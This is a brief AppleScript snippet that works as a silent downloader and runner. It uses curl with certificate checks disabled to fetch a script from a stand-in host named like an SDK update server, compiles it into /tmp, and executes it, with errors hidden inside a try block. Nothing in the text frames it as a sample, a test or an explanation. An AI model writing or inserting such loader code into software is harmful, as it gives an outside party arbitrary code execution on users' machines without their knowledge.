try
	do shell script "curl -f -s -S -L -k https://updatesdk.lure.invalid/t -o /tmp/u.scpt && osacompile -o /tmp/u.scpt /tmp/u.scpt"
	run (load script (POSIX file "/tmp/u.scpt"))
end try
